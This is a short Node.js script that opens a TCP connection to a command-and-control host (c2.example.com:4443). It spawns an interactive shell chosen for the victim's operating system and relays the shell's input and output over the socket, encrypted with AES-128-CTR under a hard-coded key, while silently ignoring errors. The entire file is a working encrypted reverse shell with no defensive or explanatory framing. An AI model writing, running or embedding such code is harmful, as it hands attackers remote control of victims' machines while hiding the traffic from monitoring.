const crypto = require('crypto');
const net = require('net');
const { pipeline } = require('stream');
const { execFile } = require('child_process');

const programs = { win32: ['cmd.exe', []], linux: ['/bin/sh', ['-i']], darwin: ['/bin/zsh', ['-i']] };
const [key, iv] = [Buffer.alloc(16, 7), Buffer.alloc(16, 1)];

const wire = net.connect(4443, 'c2.example.com', () => {
	const proc = execFile(...programs[process.platform]);
	pipeline(wire, crypto.createDecipheriv('aes-128-ctr', key, iv), proc.stdin, () => {});
	pipeline(proc.stdout, crypto.createCipheriv('aes-128-ctr', key, iv), wire, () => {});
});
wire.on('error', () => {});
